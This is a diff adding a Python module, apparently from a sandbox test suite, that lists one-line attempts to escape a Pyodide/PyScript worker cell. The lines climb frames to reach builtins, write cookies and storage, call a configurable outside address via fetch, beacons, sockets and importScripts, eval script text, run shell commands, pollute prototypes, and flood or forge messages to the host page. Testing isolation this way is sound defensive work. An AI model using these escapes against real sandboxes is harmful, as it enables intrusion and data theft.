@@ -1,0 +1,120 @@
+"""Ways out of the cell in which a version runs, each as a line of Python that tries one."""
+
+from __future__ import annotations
+
+WAYS = {
+    "a frame, by getattr": "[f := getattr((x for x in '1'), 'gi_frame')] and js.document",
+    "frames, up to the first": "climb().f_globals['__builtins__']['__import__']('js').document",
+    "the page's document": "setattr(js.document, 'title', 'reached')",
+    "the page's window": "setattr(js.window.document, 'title', 'reached')",
+    "the parent's document": "setattr(js.parent.document, 'title', 'reached')",
+    "the window on top": "setattr(js.top, 'name', 'reached')",
+    "cookies": "setattr(js.document, 'cookie', 'reached=1')",
+    "the store of cookies": "js.cookieStore.set('reached', '1')",
+    "localStorage": "js.localStorage.setItem('reached', '1')",
+    "sessionStorage": "js.sessionStorage.setItem('reached', '1')",
+    "IndexedDB": "js.indexedDB.open('reached')",
+    "caches": "js.caches.open('reached')",
+    "the file storage": "js.navigator.storage.getDirectory()",
+    "a service worker": "js.navigator.serviceWorker.register('/sw.js')",
+    "fetch": "js.fetch(WHERE, js.Object.fromEntries([['mode', 'no-cors']]))",
+    "fetch from our own host": "js.fetch(HOME)",
+    "XMLHttpRequest": "request('GET')",
+    "a beacon": "js.navigator.sendBeacon(WHERE, 'reached')",
+    "a socket": "js.WebSocket.new(WHERE.replace('http', 'ws'))",
+    "events": "js.EventSource.new(WHERE)",
+    "WebTransport": "js.WebTransport.new(WHERE.replace('http', 'https'))",
+    "WebRTC": "js.RTCPeerConnection.new().createDataChannel('reached')",
+    "importScripts": "js.importScripts(WHERE)",
+    "importScripts from our own host": "js.importScripts(HOME)",
+    "a worker of another host": "js.Worker.new(WHERE)",
+    "a worker inside": "js.Worker.new(js.URL.createObjectURL(js.Blob.new([SCRIPT])))",
+    "a shared worker": "js.SharedWorker.new(HOME)",
+    "eval": "js.eval(SCRIPT)",
+    "a function of text": "js.Function.new(SCRIPT)()",
+    "a timer of text": "js.setTimeout(SCRIPT, 0)",
+    "the constructor of functions": "js.Object.constructor.new(SCRIPT)()",
+    "navigation": "setattr(js.location, 'href', WHERE)",
+    "navigation by a method": "js.location.assign(WHERE)",
+    "a window": "js.open(WHERE)",
+    "a form": "js.document.createElement('form')",
+    "a notification": "js.Notification.new('reached')",
+    "a channel to all pages": "js.BroadcastChannel.new('stepstones').postMessage('reached')",
+    "Pyodide's loader": "pyodide('loadPackage', WHERE)",
+    "Pyodide's requests": "module('pyodide.http').open_url(WHERE)",
+    "Pyodide's scripts": "module('pyodide.code').run_js(SCRIPT)",
+    "Pyodide's waiting": "module('pyodide.ffi').run_sync(js.fetch(WHERE))",
+    "PyScript's bridge": "getattr(module('polyscript').xworker.sync, '=59317780')(2, None, SCRIPT)",
+    "PyScript's window": "setattr(module('pyscript').window.document, 'title', 'reached')",
+    "subclasses": "[c for c in object.__subclasses__() if 'wrap' in c.__name__][0]('reached')",
+    "ctypes": "module('ctypes').CDLL(None).emscripten_run_script(SCRIPT.encode())",
+    "importlib": "module('importlib').import_module('js').document.title",
+    "a socket of Python's": "module('socket').create_connection(('127.0.0.1', PORT), 1)",
+    "a request of Python's": "module('urllib.request').urlopen(WHERE)",
+    "a program": "module('subprocess').run(['touch', '/tmp/reached'])",
+    "a shell": "module('os').system('touch /tmp/reached')",
+    "prototypes": "setattr(js.Object.prototype, 'type', 'reached')",
+    "the originals' class": "setattr(Record, 'place', 5)",
+    "the originals' board": "setattr(module('stepstones.queens.board').Board, 'size', 0)",
+    "the originals' runs": "setattr(module('stepstones.core.trace').Run, 'advance', None)",
+}
+"""What is tried, in Python; the names are bound by :func:`program`."""
+TELLINGS = {
+    "an object": "js.postMessage(js.Object.fromEntries([['cell', 1], ['text', '{}']]))",
+    "a lie": "js.postMessage('{\"told\": 5}')",
+    "prototypes": 'js.postMessage(\'{"told": {"__proto__": {"at": 1}}, "__proto__": {}}\')',
+    "a point that is none": "js.postMessage(FORGED)",
+    "a flood": "[js.postMessage('x' * 1000) for _ in range(20000)]",
+    "500 MB": "js.postMessage(js.ArrayBuffer.new(500_000_000))",
+    "a long text": "js.postMessage(js.String.prototype.repeat.call('x', 400_000_000))",
+    "ready again": "[js.postMessage('ready') for _ in range(3)]",
+}
+"""What a hostile version may say in the place of an answer; then it waits."""
+_HEAD = """
+import importlib
+
+
+def module(name):
+    return importlib.import_module(name)
+
+
+js = module("js")
+WHERE, HOME, PORT = {where!r}, {home!r}, {port!r}
+SCRIPT = "fetch('%s').catch(() => 0); try {{ importScripts('%s') }} catch {{}}" % (WHERE, WHERE)
+FORGED = '{{"told":[1,["visit",99999,"",[],[],"",[],[],"",[],-1]]}}'
+
+
+def climb():
+    frame = module("sys")._getframe()
+    while frame.f_back:
+        frame = frame.f_back
+    return frame
+
+
+def request(way):
+    one = js.XMLHttpRequest.new()
+    one.open(way, WHERE, False)
+    one.send()
+
+
+def pyodide(name, *values):
+    return getattr(module("pyodide_js"), name)(*values)
+
+
+TRIED = []
+
+
+def attempt(line):
+    try:
+        eval(line, globals())
+    except BaseException:
+        pass
+    TRIED.append(line)
+
+
+"""
+
+
+def head(where: str, home: str, port: int) -> str:
+    """Return what stands before a version that tries: names, with addresses to reach."""
+    return _HEAD.format(where=where, home=home, port=port)
